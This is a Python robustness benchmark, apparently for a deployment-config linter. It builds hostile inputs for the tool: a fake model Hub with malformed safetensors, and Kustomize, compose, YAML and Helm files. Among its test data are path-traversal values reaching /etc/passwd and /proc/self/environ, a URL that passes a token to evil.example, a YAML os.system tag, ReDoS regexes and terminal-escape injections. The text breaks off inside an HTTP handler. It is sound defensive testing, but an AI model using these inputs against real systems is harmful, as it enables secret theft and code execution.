"""A thirteenth round of hostile inputs (the sixteenth file of them), aimed at code the earlier rounds did not reach.

    python3 benchmarks/hostile_sixteenth.py [--case NAME ...] [--keep DIR] [--timeout 60] [--cpu-time]

Kinds the earlier rounds (`hostile_*.py`) did not try: a hostile local Hub (HF_ENDPOINT on 127.0.0.1, no
`--offline`) answering safetensors headers with absurd shapes and dtypes, header length prefixes of 0, 1, 2**64-1
and past the cap, headers of the wrong JSON types, and `model.safetensors.index.json` files naming 5,000 shards,
shards out of the repository (`../`, `/etc/passwd`, URLs, percent escapes), weight maps of 500,000 tensors, shards
whose tensors add up past the tensor bound, and headers that echo the token; Kustomize kustomizations with inline
`patches`, `patchesJson6902`, `bases`/`components`/`resources` outside the tree and remote, `replacements` and
`vars` by the thousand, patch files that are links out of the tree, FIFOs or 5 MB; 20,000 joined `args` words of
one root cause (in a Deployment, a compose command and a script); Unicode in flag names (bidi controls, zero-width
characters, Cyrillic homoglyphs, U+2010 inside `--max-model-len`), a 1 MB unknown flag name on 300 servers, NUL
bytes inside YAML documents; YAML tags of 1 MB, 5,000 `%TAG` directives, complex keys that are large mappings,
merge keys that refer to themselves; Kubernetes `$(VAR)` doubling and escapes; compose `include:` in every form,
`profiles` and `x-` extensions through anchors; Helm values holding 1 MB `--set`-like strings and 20,000 dotted
keys; a repository `.vramlint.yaml` with `rules-dir` out of the tree, glob patterns of 100 KB, overrides nested in
overrides and lone surrogates; JSON reports of lone surrogates (a strict JSON reader refuses them); file names like
`-rf.yaml` and `--config.yaml`, control characters and paths of 4,000 bytes.

Each case runs `vramlint check . --offline` (a Hub case: with HF_ENDPOINT on the case's own server and not
offline) under a CPU-time limit (RLIMIT_CPU, the timeout) and an address-space cap (4 GiB, a guard for the shared
machine; the 300 MB limit is judged on the peak resident size), with `hostile_fifteenth.run_check_case`'s checks
(time, memory, exit status, tracebacks, both planted secrets in every output format and stderr, an audit hook that
fails a case which opens a file outside the tree or starts a process, writes into the tree, raw control characters,
workflow-command lines, valid SARIF/GitLab/JUnit, the finding expected on its file and line, `__no_internal__`),
and these: `__max_rule__` (at most N findings of a rule: one per root cause), `__strict_json__` (the JSON and
SARIF reports hold no lone surrogate, escaped or not, which strict readers such as Go's and serde's refuse), and
`__hub_paths__` (no Hub request for a path outside the model's repository).
The cases and their expectations were written and committed before their first run.

First run (`python3 benchmarks/hostile_sixteenth.py --cpu-time --timeout 30`, on main ff4a5f1): 26/33. Failed:
args-joined-20k-one-root-cause (20,001 VRL005 findings, one per refused word), args-joined-20k-compose-and-script
(40,000 VRL005 findings, 10.7 CPU-s, 370 MB), nul-bytes-inside-documents (the whole file refused as binary, the
other documents not read), yaml-tags-1MB-and-python-tags (13.5 CPU-s), config-repo-rules-dir-huge-globs (no finding
on line 1, `rules-dir`), surrogates-config-values-strict-json (no finding on the `.vramlint.yaml`; a lone surrogate
in the JSON report) and surrogates-compose-names-strict-json (lone surrogates in the JSON and SARIF reports).
Two of these were expectations of mine, corrected with the reason in the case (not counted as fixes): a NUL byte
makes a YAML file binary, refused whole with a warning on the NUL's line (kubectl stops at that document), and a
GPU name is matched on its letters and digits (`L4\ud800` is the L4), so that configuration is valid. A look at the
passing Hub cases found a silent guess: all six headers of hub-st-absurd-dtypes were taken, an unknown dtype
counted as 2 bytes an element (fixed: refused as safetensors refuses it), and an index of 5,000 shards was said
to name "shards that are not plain file names" (fixed). hub-index-distinct-tensors-over-bound was added after the
first run (the over-max-tensors case repeats its tensor names in every shard, which one dict holds once).

After the fixes, on the branch rebased onto main e5cc8bb (the same command; in-sample: the cases are mine and the
fixes were made on them): 34/34. The closest to the limits: hub-index-shards-over-max-tensors 2.8 CPU-s and 202
MB, hub-index-distinct-tensors-over-bound 2.3 CPU-s and 201 MB (420,000 tensors refused past the 400,000 bound),
helm-values-set-strings-dotted-keys 2.7 CPU-s (the 2 s chart budget), kustomize-patch-files-links-fifo-big 2.2
CPU-s and 170 MB. Three cases are over 5 s of wall time on this machine (2 cores, load 6), none over 3 CPU-s.
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
from typing import Any

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

import hostile_fifteenth as e  # noqa: E402  (the harness of the fifteenth round)
import hostile_fresh as f  # noqa: E402
import hostile_inputs as h  # noqa: E402
import hostile_twelfth as t  # noqa: E402

QWEN = f.QWEN
MODEL = "Qwen/Qwen2.5-1.5B-Instruct"
deployment = h.deployment
expect = f.expect
line_of = f.line_of
SERVER = f.SERVER
GPU_RESERVATION = t.GPU_RESERVATION
ADDRESS_SPACE_CAP = 4 * 2**30

# ---------------------------------------------------------------------- helpers


def _bad(name: str = "bad") -> str:
    return deployment(QWEN + ["--max-model-len", "999999"], name=name)


def _bad_lines(text: str, nth: int = 1) -> tuple[int, int]:
    at = line_of(text, '"999999"', nth)
    return at - 1, at


def _docs(*docs: str) -> str:
    return "---\n".join(docs)


def _hub_dep(model: str, name: str = "hub") -> str:
    # max_position_embeddings of the Hub's config is 8,192: 999999 is refused whatever the weights are
    return deployment(["--model", model, "--max-model-len", "999999"], name=name)


def _hub_case(kind: str, models: list[str]) -> dict[str, Any]:
    files: dict[str, Any] = {}
    where = []
    for i, m in enumerate(models):
        text = _hub_dep(m, name=f"hub{i}")
        files[f"hub{i}.yaml"] = text
        where.append((f"hub{i}.yaml", _bad_lines(text)))
    bad = _bad()
    files["deploy.yaml"] = bad
    where.append(("deploy.yaml", _bad_lines(bad)))
    return {**files, "__hub__": kind, "__hub_paths__": True, "__hub_models__": models, "__no_internal__": True,
            "__expect__": expect(*where)}


COMPOSE_BAD = ("services:\n  vllm:\n    image: vllm/vllm-openai:v0.8.5\n"
               f"    command: [--model, {MODEL}, --max-model-len, '999999']\n" + GPU_RESERVATION)


def sixteenth_cases() -> dict[str, dict[str, Any]]:  # noqa: C901  (one block per case)
    out: dict[str, dict[str, Any]] = {}
    bad = _bad()
    bad_at = ("deploy.yaml", _bad_lines(bad))

    # ------------------------------------------------------------------ a hostile Hub: safetensors and indexes
    out["hub-st-absurd-shapes"] = _hub_case("shapes", [f"evil-org/shape{i}" for i in range(8)])
    out["hub-st-header-length-prefixes"] = _hub_case("lengths", [f"evil-org/len{i}" for i in range(7)])
    out["hub-st-wrong-json-types"] = _hub_case("types", [f"evil-org/type{i}" for i in range(10)])
    out["hub-st-absurd-dtypes"] = _hub_case("dtypes", [f"evil-org/dtype{i}" for i in range(6)])
    out["hub-index-5000-shards-and-traversal"] = _hub_case("index", [f"evil-org/index{i}" for i in range(9)])
    out["hub-index-500k-weight-map"] = _hub_case("bigmap", ["evil-org/bigmap"])
    out["hub-index-shards-over-max-tensors"] = _hub_case("manytensors", ["evil-org/many"])
    # (added after the first run, so not in its figure: the case above repeats its tensor names in every shard,
    # which one dict holds once; here each shard's names are its own, 420,000 in all, past the tensor bound)
    out["hub-index-distinct-tensors-over-bound"] = _hub_case("manydistinct", ["evil-org/many"])
    out["hub-index-wrong-types"] = _hub_case("indextypes", [f"evil-org/itype{i}" for i in range(7)])
    out["hub-headers-echo-token"] = _hub_case("echo", [f"evil-org/echo{i}" for i in range(3)])

    # ------------------------------------------------------------------ Kustomize
    patch_dep = deployment(QWEN + ["--max-model-len", "4096"], name="patched")
    inline = ("apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n  - deploy.yaml\n"
              "patches:\n" + "".join(
                  "  - target: {kind: Deployment, name: bad}\n    patch: |-\n"
                  + "".join("      " + ln + "\n" for ln in patch_dep.splitlines()) for _ in range(200))
              + "  - patch: |-\n      - op: add\n        path: /spec/template/spec/containers/0/args/-\n"
                "        value: --max-model-len=999999\n    target: {kind: Deployment}\n"
              + "patchesJson6902:\n" + "".join(
                  f"  - target: {{group: apps, version: v1, kind: Deployment, name: bad}}\n"
                  f"    patch: '[{{\"op\": \"replace\", \"path\": \"/spec/template/spec/containers/0/args/{i}\", "
                  f"\"value\": \"--max-num-seqs={i}\"}}]'\n" for i in range(5000))
              + "patchesStrategicMerge:\n  - |-\n" + "".join("    " + ln + "\n" for ln in patch_dep.splitlines()))
    out["kustomize-inline-patches-6902"] = {"kustomization.yaml": inline, "deploy.yaml": bad,
                                            "__no_internal__": True, "__expect__": expect(bad_at)}

    outside = ("apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nbases:\n  - ../_outside\n  - /etc\n"
               "  - ../../../../../../etc/passwd\ncomponents:\n  - ../_outside\n  - /proc/self\nresources:\n"
               "  - deploy.yaml\n  - ../_outside/compose.yaml\n  - ../_outside/secret.yaml\n"
               "  - https://evil.example/x.yaml?token=$HF_TOKEN\n  - github.com/evil/repo//deploy?ref=main\n"
               "  - git::ssh://git@evil.example/x.git\n  - /proc/self/environ\nreplacements:\n"
               "  - path: ../_outside/secret.yaml\n  - path: /proc/self/environ\nconfigurations:\n"
               "  - ../_outside/secret.yaml\nopenapi:\n  path: /proc/self/environ\ncrds:\n  - ../_outside/secret.yaml\n"
               "generators:\n  - ../_outside\ntransformers:\n  - /etc/passwd\nvalidators:\n  - ../_outside\n"
               "configMapGenerator:\n  - name: c\n    envs: [../_outside/secret.env]\n    files: [k=../_outside/secret.txt]\n"
               "secretGenerator:\n  - name: s\n    envs: [/proc/self/environ]\nhelmCharts:\n  - name: x\n"
               "    valuesInline: {model: ../_outside/secret.yaml}\n    additionalValuesFiles: [../_outside/secret.yaml]\n")
    out["kustomize-bases-components-outside"] = {"kustomization.yaml": outside, "deploy.yaml": bad,
                                                 "sub/kustomization.yml": outside.replace("../_outside", "../../_outside"),
                                                 "sub/Kustomization": outside, "__no_internal__": True,
                                                 "__expect__": expect(bad_at)}

    files_k: dict[str, Any] = {
        "kustomization.yaml": ("resources: [deploy.yaml]\npatches:\n  - path: p-link.yaml\n  - path: p-fifo.yaml\n"
                               "  - path: p-big.yaml\n  - path: p-ops.json\n  - path: p-dir\npatchesStrategicMerge:\n"
                               "  - p-link.yaml\n  - p-loop.yaml\n"),
        "p-link.yaml": ("symlink", "../_outside/secret.yaml"), "p-fifo.yaml": ("fifo",),
        "p-loop.yaml": ("symlink", "p-loop.yaml"), "p-dir": ("symlink", "/proc/self"),
        "p-big.yaml": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: bad\nspec:\n  template:\n    spec:\n"
                      "      containers:\n        - name: vllm\n          args:\n"
                      + "".join(f"            - --x{i}={i}\n" for i in range(150_000)),
        "p-ops.json": json.dumps([{"op": "add", "path": "/spec/template/spec/containers/0/args/-",
                                   "value": f"--max-num-seqs={i}"} for i in range(60_000)]),
        "deploy.yaml": bad, "__no_internal__": True, "__expect__": expect(bad_at)}
    out["kustomize-patch-files-links-fifo-big"] = files_k

    rep = ("apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [deploy.yaml]\nvars:\n"
           + "".join(f"  - name: V{i}\n    objref: {{kind: Deployment, name: bad, apiVersion: apps/v1}}\n"
                     f"    fieldref: {{fieldpath: metadata.name}}\n" for i in range(10_000))
           + "replacements:\n" + "".join(
               f"  - source: {{kind: Deployment, name: bad, fieldPath: 'spec.template.spec.containers.[name=vllm].args.{i}'}}\n"
               f"    targets:\n      - select: {{kind: Deployment}}\n        fieldPaths: ['spec.template.spec.containers.*.args.{i}']\n"
               f"        options: {{delimiter: ' ', index: {2**63 + i}, create: true}}\n" for i in range(10_000)))
    var_dep = deployment(QWEN + ["--max-model-len", "$(V1)", "--max-num-seqs", "$(V2"], name="vars")
    helmk = ("apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nhelmCharts:\n" + "".join(
        f"  - name: vllm-stack\n    releaseName: \"r{i}\\e[31m::error::x\"\n    repo: https://evil.example/{i}\n"
        f"    version: '{'9' * 400}'\n    valuesInline:\n      servingEngineSpec:\n        modelSpec:\n"
        f"          - name: m\n            modelURL: {MODEL}\n            vllmConfig: {{maxModelLen: {'9' * 5000}, "
        f"extraArgs: [{json.dumps('--x ' * 50_000)}]}}\n" for i in range(20)))
    out["kustomize-helmcharts-valuesinline-huge"] = {"kustomization.yaml": helmk, "deploy.yaml": bad,
                                                     "__no_internal__": True,
                                                     "__expect__": expect(bad_at, ("kustomization.yaml", None))}
    out["kustomize-vars-replacements-10k"] = {"kustomization.yaml": rep, "deploy.yaml": bad, "vars.yaml": var_dep,
                                              "__no_internal__": True, "__expect__": expect(bad_at)}

    # ------------------------------------------------------------------ joined words: one root cause
    joined = deployment(QWEN + ["--max-model-len", "999999"] + ["--max-num-seqs 8"] * 20_000, name="joined")
    out["args-joined-20k-one-root-cause"] = {
        "deploy.yaml": joined, "__no_internal__": True, "__max_rule__": {"VRL005": 3},
        "__expect__": expect(("deploy.yaml", _bad_lines(joined)), ("deploy.yaml", line_of(joined, '"--max-num-seqs 8"'),
                                                                     "VRL005"))}

    comp_j = ("services:\n  vllm:\n    image: vllm/vllm-openai:v0.8.5\n    command:\n"
              + f"      - --model\n      - {MODEL}\n" + "      - '--tensor-parallel-size 1'\n" * 20_000 + GPU_RESERVATION)
    script = ("#!/bin/sh\nexec vllm serve " + MODEL + " " + " ".join(["'--enforce-eager true'"] * 20_000) + "\n")
    out["args-joined-20k-compose-and-script"] = {
        "compose.yaml": comp_j, "run.sh": script, "__paths__": ("paths", ["run.sh"]), "__no_internal__": True,
        "__max_rule__": {"VRL005": 4},
        "__expect__": expect(("compose.yaml", line_of(comp_j, "'--tensor-parallel-size 1'"), "VRL005"),
                             ("run.sh", 2, "VRL005"))}

    # ------------------------------------------------------------------ Unicode in flags
    bidi = deployment(QWEN + ["--max-model\u202e-len", "999999", "--max-num-seqs\u200b", "8",
                              "\u2066--enforce-eager\u2069", "--gpu-memory-utilization\ufeff", "0.9"], name="bidi")
    out["flags-bidi-zero-width-in-names"] = {
        "deploy.yaml": bidi, "__no_internal__": True, "__no_chars__": "\u202e\u2066\u2069",
        "__expect__": expect(("deploy.yaml", (line_of(bidi, '"--max-model'), line_of(bidi, '"--max-model') + 1)))}

    homo = deployment(QWEN + ["--max\u2010model\u2010len", "999999", "--m\u0430x-num-seqs", "8",
                              "--tensor-parallel-si\u0437e", "1", "--max-model-len\u0301", "4096",
                              "--gpu-memory-utili\u2024ation", "0.9"], name="homo")
    out["flags-homoglyphs-inside-names"] = {
        "deploy.yaml": homo, "__no_internal__": True,
        "__expect__": expect(("deploy.yaml", (line_of(homo, '"--max\\u2010'), line_of(homo, '"--max\\u2010') + 1)))}

    huge_flag = "--" + "max-model-len" * 80_000
    anchored = ("x: &flag " + json.dumps(huge_flag) + "\n---\n"
                + _docs(*[deployment(QWEN + ["--max-model-len", "4096"], name=f"s{i}").replace(
                    '            - "4096"\n', '            - "4096"\n            - ' + ("&flag " + json.dumps(huge_flag)
                                                                                       if i == 0 else "*flag") + "\n")
                    for i in range(1)]))
    # an alias cannot cross documents: one document of 300 servers (a List) sharing the anchored name
    items = "".join(
        f"  - apiVersion: apps/v1\n    kind: Deployment\n    metadata: {{name: s{i}}}\n    spec:\n      template:\n"
        "        spec:\n          nodeSelector: {cloud.google.com/gke-accelerator: nvidia-l4}\n          containers:\n"
        f"            - name: vllm\n              image: vllm/vllm-openai:v0.8.5\n              args: [--model, {MODEL}, "
        + ("&flag " + json.dumps(huge_flag) if i == 0 else "*flag")
        + "]\n              resources: {limits: {nvidia.com/gpu: '1'}}\n" for i in range(300))
    lst = "apiVersion: v1\nkind: List\nitems:\n" + items
    out["flag-name-1MB-unknown-300-servers"] = {
        "list.yaml": lst, "one.yaml": anchored, "deploy.yaml": bad, "__no_internal__": True, "__max_report_mb__": 40,
        "__expect__": expect(bad_at, ("list.yaml", None))}

    nul_doc = bad.replace("name: bad", "name: bad\n  labels: {x: \"a\0b\"}").replace("999999", "999998")
    nul = _docs(deployment(QWEN + ["--max-model-len", "4096"], name="ok"), nul_doc + "\0\0# trailing NUL\n", bad)
    out["nul-bytes-inside-documents"] = {
        "deploy.yaml": nul, "keys.yaml": "a\0: 1\nvllm\0serve: x\n", "__no_internal__": True,
        # (corrected after the first run: a NUL byte makes a YAML file binary to vramlint, refused whole with a
        # warning on the NUL's line, as kubectl stops at that document and applies none after it; the case expected
        # the other documents read)
        "__expect__": expect(("deploy.yaml", line_of(nul, "\0"), "VRL102"), ("keys.yaml", 1, "VRL102"))}

    # ------------------------------------------------------------------ YAML edge cases
    tag = "!<tag:evil.example,2026:" + "x" * 1_000_000 + ">"
    tags = _docs("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n  a: " + tag + " v\n",
                 "%TAG !e! tag:evil.example,2026:\n---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: d}\n"
                 "data:\n  b: !e!" + "y" * 100_000 + " w\n  c: !!python/object/apply:os.system ['id']\n", bad)
    out["yaml-tags-1MB-and-python-tags"] = {"deploy.yaml": tags, "__no_internal__": True,
                                            "__expect__": expect(("deploy.yaml", _bad_lines(tags)))}

    directives = ("%YAML 1.1\n" + "".join(f"%TAG !t{i}! tag:e.example,2026:{i}/\n" for i in range(5000)) + "---\n"
                  "a: !t4999!x 1\n...\n%YAML 9.9\n---\nb: 2\n...\n" + "".join(f"%YAML 1.2\n---\nc{i}: !!str {i}\n...\n"
                                                                             for i in range(40)))
    out["yaml-5000-tag-directives-and-versions"] = {"directives.yaml": directives, "deploy.yaml": bad,
                                                    "__no_internal__": True, "__expect__": expect(bad_at)}

    big_key = "{" + ", ".join(f"k{i}: {i}" for i in range(100_000)) + "}"
    complex_keys = ("? " + big_key + "\n: 1\n? [" + ", ".join(f"[{i}, {{a: [{i}]}}]" for i in range(20_000)) + "]\n: 2\n"
                    + "? " + "[" * 500 + "]" * 500 + "\n: 3\nargs: {? [--max-model-len] : 999999}\n")
    out["yaml-complex-keys-huge-mappings"] = {"keys.yaml": complex_keys, "deploy.yaml": bad, "__no_internal__": True,
                                              "__expect__": expect(bad_at)}

    merge = ("x-a: &a\n  <<: *a\n  k: 1\n" "---\nx-b: &b {<<: [*b], k: 2}\n" "---\nbase: &base {image: x}\n"
             "loop:\n  <<: [*base, *base, *base]\n  <<: *base\n  '<<': 3\n  !!merge <<: [1, 2]\n" "---\n"
             "s: &s [1]\nm:\n  <<: *s\n---\nm2: {<<: !!str x, <<: null}\n")
    merge_dep = bad.replace("spec:\n  template:", "spec:\n  <<: {replicas: 1}\n  template:")
    out["yaml-merge-key-self-and-odd"] = {"merge.yaml": merge, "deploy.yaml": merge_dep, "__no_internal__": True,
                                          "__expect__": expect(("deploy.yaml", _bad_lines(merge_dep)))}

    # ------------------------------------------------------------------ Kubernetes $(VAR) expansion
    env = "          env:\n" + "            - name: V0\n              value: \"$(V0)x\"\n" + "".join(
        f"            - name: V{i}\n              value: \"$(V{i - 1})$(V{i - 1})\"\n" for i in range(1, 64))
    env += "            - name: L\n              value: \"$$(V63)$(V63\"\n            - name: M\n              value: \"9999$()99\"\n"
    kvar = deployment(QWEN + ["--max-model-len", "$(L)", "--max-num-seqs", "$(V63)", "--served-model-name",
                              "$$(V63)$$$(V1)"], name="vars").replace("          resources:", env + "          resources:")
    out["k8s-env-doubling-escapes"] = {"vars.yaml": kvar, "deploy.yaml": bad, "__no_internal__": True,
                                       "__max_report_mb__": 16, "__expect__": expect(bad_at)}

    # ------------------------------------------------------------------ compose
    incl = ("include:\n  - ../_outside/compose.yaml\n  - /proc/self/environ\n  - path: [other.yaml, ../_outside/compose.yaml]\n"
            "    project_directory: /\n    env_file: [/proc/self/environ, ../_outside/secret.env]\n"
            "  - path: oci://evil.example/x:latest\n  - git@github.com:evil/x.git\n  - https://evil.example/c.yaml\n"
            "  - compose.yaml\n  - path: {a: 1}\n  - 17\n  - path: ''\n" + "".join(f"  - missing{i}.yaml\n"
                                                                             for i in range(3000))
            + "services:\n  a:\n    image: busybox\n")
    out["compose-include-every-form"] = {"compose.yaml": incl, "other.yaml": COMPOSE_BAD, "__no_internal__": True,
                                         "__expect__": expect(("other.yaml", line_of(COMPOSE_BAD, "999999")))}

    huge = "x" * 1_000_000
    prof = ("x-huge: &huge " + json.dumps(huge) + "\nx-vllm: &vllm\n  image: vllm/vllm-openai:v0.8.5\n"
            + GPU_RESERVATION.replace("    deploy", "  deploy") + "  labels: {h: *huge}\n"
            + "x-list: &profiles [*huge, gpu, *huge]\nservices:\n"
            + "".join(f"  s{i}:\n    <<: *vllm\n    profiles: *profiles\n    x-note: *huge\n"
                      f"    command: [--model, {MODEL}, --port, '{8000 + i}', --served-model-name, *huge]\n"
                      for i in range(500))
            + "  bad:\n    <<: *vllm\n    profiles: [gpu]\n"
              f"    command: [--model, {MODEL}, --max-model-len, '999999']\n")
    out["compose-profiles-x-extensions-1MB-aliases"] = {
        "compose.yaml": prof, "__no_internal__": True, "__max_report_mb__": 40,
        "__expect__": expect(("compose.yaml", line_of(prof, "'999999'")))}

    # ------------------------------------------------------------------ Helm values
    sets = ",".join(f"a{i}.b[{i}].c\\.d={i}" for i in range(60_000))
    tpl = ("apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: x\nspec:\n  template:\n    spec:\n"
           "      containers:\n        - name: vllm\n          image: vllm/vllm-openai:v0.8.5\n"
           "          args:\n            - --model\n            - {{ .Values.model }}\n"
           "          {{- range splitList \",\" .Values.set }}\n            - {{ . | quote }}\n          {{- end }}\n"
           "          {{- range $k, $v := .Values.extra }}\n            - --{{ $k }}={{ $v }}\n          {{- end }}\n")
    vals = (f.VALUES + "set: " + json.dumps(sets) + "\nextra:\n"
            + "".join(f"  \"x.{i}.y[0]\": \"--set a.b={i}\"\n" for i in range(20_000)))
    out["helm-values-set-strings-dotted-keys"] = f.chart({"deploy.yaml": h.CHART_TEMPLATE, "x.yaml": tpl}, values=vals,
                                                         __no_internal__=True, __max_report_mb__=40,
                                                         __expect__=expect(SERVER))

    # ------------------------------------------------------------------ the repository's configuration
    cfg = ("rules-dir: ../_outside\nrender-helm: true\nhub-endpoint: http://127.0.0.1:9/\n"
           "gpu: L4\nexclude: ['" + "(a+)+$" * 2000 + "', '" + "**/" * 30_000 + "x', '[', '{a,b' ]\n"
           "overrides:\n  - files: ['" + "*" * 100_000 + "?']\n    gpu: L4\n    overrides:\n"
           "      - files: ['**']\n        rules: {VRL005: off}\n  - files: ['[!]]', '\\\\', '" + "{" * 5000 + "']\n"
           "    rules:\n      VRL005: {severity: off, max: 1e400, pattern: '(x+x+)+y'}\n"
           + "".join(f"unknown-{i}:\n  deep: {{a: {{b: {{c: {i}}}}}}}\n" for i in range(300)))
    out["config-repo-rules-dir-huge-globs"] = {".vramlint.yaml": cfg, "deploy.yaml": bad, "__no_internal__": True,
                                               "__expect__": expect(bad_at, (".vramlint.yaml", 1))}

    surro_cfg = "gpu: \"L4\\ud800\"\nmodel-aliases:\n  \"\\udfffm\": \"" + MODEL + "\\udc80\"\n"
    s_dep = deployment(QWEN + ["--max-model-len", "999999", "--served-model-name", "a\\ud800b"], name="s")
    s_dep = s_dep.replace('"a\\\\ud800b"', '"a\\ud800b"')
    out["surrogates-config-values-strict-json"] = {
        ".vramlint.yaml": surro_cfg, "deploy.yaml": s_dep, "__no_internal__": True, "__strict_json__": True,
        # (corrected after the first run: a GPU name is matched as node labels are, letters and digits only, so
        # "L4\ud800" is the L4 and the file is valid; the deployment's finding is what the case must have)
        "__expect__": expect(("deploy.yaml", _bad_lines(s_dep)))}

    comp_s = ("services:\n  \"vllm\\udcff\":\n    image: \"vllm/vllm-openai:v0.8.5\"\n"
              "    command: [--model, \"" + MODEL + "\", --max-model-len, \"99\\ud83d9999\", --served-model-name, \"\\ud800\"]\n"
              "    environment: {\"K\\udc00\": \"\\udbff\"}\n" + GPU_RESERVATION)
    out["surrogates-compose-names-strict-json"] = {
        "compose.yaml": comp_s, "deploy.yaml": bad, "__no_internal__": True, "__strict_json__": True,
        "__expect__": expect(bad_at, ("compose.yaml", None))}

    # ------------------------------------------------------------------ file names
    names = {"-rf.yaml": bad, "--config.yaml": bad, "--rules-dir=x.yaml": bad, "-.yaml": bad, "--.yaml": bad,
             "--output-file=o.yaml": bad, "sub/--fix/-v.yaml": bad}
    out["filenames-look-like-options"] = {
        **names, "__paths__": ("paths", ["./-rf.yaml", "./--config.yaml"]), "__no_internal__": True,
        "__expect__": expect(*[(n, _bad_lines(bad)) for n in names])}

    long_dir = "/".join(["d" * 200] * 18)  # about 3,600 bytes of folders: near PATH_MAX with the temp folder
    ctrl = {"a\x1b[31mred.yaml": bad, "b\rc.yaml": bad, "t\tab.yaml": bad, "del\x7f.yaml": bad,
            "e\x85f.yaml": bad, long_dir + "/" + "n" * 120 + ".yaml": bad}
    out["filenames-control-chars-long-paths"] = {**ctrl, "__no_internal__": True,
                                                 "__expect__": expect(*[(n, _bad_lines(bad)) for n in ctrl])}
    return out


# ---------------------------------------------------------------------- the hostile Hub

_CONFIG = t._CONFIG  # a Llama of 2,048 hidden, 16 layers, 8,192 positions


def _header(obj: Any, raw: bytes | None = None, declared: int | None = None) -> bytes:
    body = raw if raw is not None else json.dumps(obj).encode()
    return (len(body) if declared is None else declared).to_bytes(8, "little") + body + b"\0" * 16


def _tensor(shape: Any, dtype: Any = "BF16") -> dict[str, Any]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [0, 2]}


def _files_for(kind: str, model: str, secret: str) -> dict[str, bytes] | None:  # noqa: C901
    """The files of one hostile repository (None: 404 for everything but config.json)."""
    n = int("".join(c for c in model if c.isdigit()) or 0)
    if kind == "shapes":
        shapes = [[2**40, 2**40], [-1, 4096], [1.5, 2], ["4096"], [[4096]], [1] * 17, [True, 2], [2**40] + [2] * 8]
        return {"model.safetensors": _header({"w": _tensor(shapes[n]), "v": _tensor([2048, 2048])})}
    if kind == "lengths":
        big = json.dumps({"w": _tensor([2048, 2048])}).encode()
        forms = [_header(None, big, 0), _header(None, big, 1), _header(None, big, 2**64 - 1),
                 _header(None, big, 8 * 2**20 + 1), _header(None, big, 99_999), _header(None, big, len(big) + 50),
                 (100_000).to_bytes(8, "little") + b" " * 99_990]
        return {"model.safetensors": forms[n]}
    if kind == "types":
        forms: list[bytes] = [b"[1, 2, 3]", b'"a string"', b"42", b"null", b'{"w": [1, 2]}', b'{"w": {"dtype": {"a": 1}, "shape": [1]}}',
                              b'{"__metadata__": [' + b"1," * 400_000 + b'1], "w": {"dtype": "F16", "shape": [1]}}',
                              b'{"w": {"dtype": "F16", "shape": [NaN, Infinity]}}',
                              b'{"w": {"dtype": "F16", "shape": [' + b"9" * 4000 + b"]}}",
                              b'{"w": {"dtype": "F16", "shape": [1e400]}, "w": {"dtype": "F16", "shape": [2]}}']
        return {"model.safetensors": _header(None, forms[n])}
    if kind == "dtypes":
        dtypes = ["", "x" * 16, "\u0000F16", "\uff26\uff11\uff16", "F8_E4M3" + "\u202e", "I64"]
        return {"model.safetensors": _header({f"model.layers.{i}.mlp.down_proj.weight": _tensor([8192, 2048], dtypes[n])
                                              for i in range(16)})}
    if kind == "index":
        if n == 0:
            shards = [f"model-{i:05d}-of-05000.safetensors" for i in range(5000)]
        else:
            evil = ["../../../etc/passwd", "/etc/passwd", "%2e%2e%2f%2e%2e%2fsecret.safetensors",
                    "http://evil.example/x.safetensors", "a\nb.safetensors", "sub/../../x.safetensors", "\\..\\x",
                    "C:/x.safetensors"][n - 1]
            shards = ["model-1.safetensors", evil]
        wm = {f"w{i}": shards[i % len(shards)] for i in range(max(len(shards), 10))}
        one = _header({"w": _tensor([2048, 2048])})
        return {"model.safetensors.index.json": json.dumps({"metadata": {}, "weight_map": wm}).encode(),
                **{s: one for s in shards if "/" not in s and "\\" not in s and "%" not in s}}
    if kind == "indextypes":
        one = _header({"w": _tensor([2048, 2048])})
        forms = [b'{"weight_map": [1, 2]}', b'{"weight_map": {"a": 1, "b": null, "c": ["x.safetensors"]}}', b"[]",
                 b"not json", b'{"weight_map": {"a": "m.safetensors"}, "metadata": {"total_size": ' + b"9" * 5000 + b"}}",
                 b'{"weight_map": {"a": "m.safetensors"}}' + b" " * (32 * 2**20 + 1),
                 b'{"weight_map": {"a": "' + b"m" * 300 + b'.safetensors"}}']
        return {"model.safetensors.index.json": forms[n], "m.safetensors": one, "m" * 300 + ".safetensors": one}
    if kind == "bigmap":
        wm = {f"model.layers.{i}.weight.{'p' * 20}": "model-1.safetensors" for i in range(500_000)}
        return {"model.safetensors.index.json": json.dumps({"weight_map": wm}).encode(),
                "model-1.safetensors": _header({"w": _tensor([2048, 2048])})}
    if kind in ("manytensors", "manydistinct"):
        shards = [f"model-{i}.safetensors" for i in range(3)]
        own = kind == "manydistinct"
        return {"model.safetensors.index.json": json.dumps({"weight_map": {f"w{i}": s for i, s in enumerate(shards)}}).encode(),
                **{s: _header({f"t{j if own else 0}_{i}": {"dtype": "F16", "shape": [1]} for i in range(140_000)})
                   for j, s in enumerate(shards)}}
    if kind == "echo":
        forms = [_header({"__metadata__": {"token": secret}, "w": _tensor([2048, 2048])}),
                 _header({"__metadata__": {"t": "".join(f"\\u{ord(c):04x}" for c in secret)}, "w": _tensor([1])},
                         raw=('{"__metadata__": {"t": "' + "".join(f"\\u{ord(c):04x}" for c in secret)
                              + '"}, "w": {"dtype": "F16", "shape": [1]}}').encode()),
                 None]
        if n == 2:
            return {"model.safetensors.index.json": json.dumps({"weight_map": {"w": secret + ".safetensors"}}).encode()}
        return {"model.safetensors": forms[n]}
    return None


def _hub_handler(kind: str, state: dict[str, Any]):
    from http.server import BaseHTTPRequestHandler

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *a: Any) -> None:
            pass

        def do_HEAD(self) -> None:
            self.do_GET()

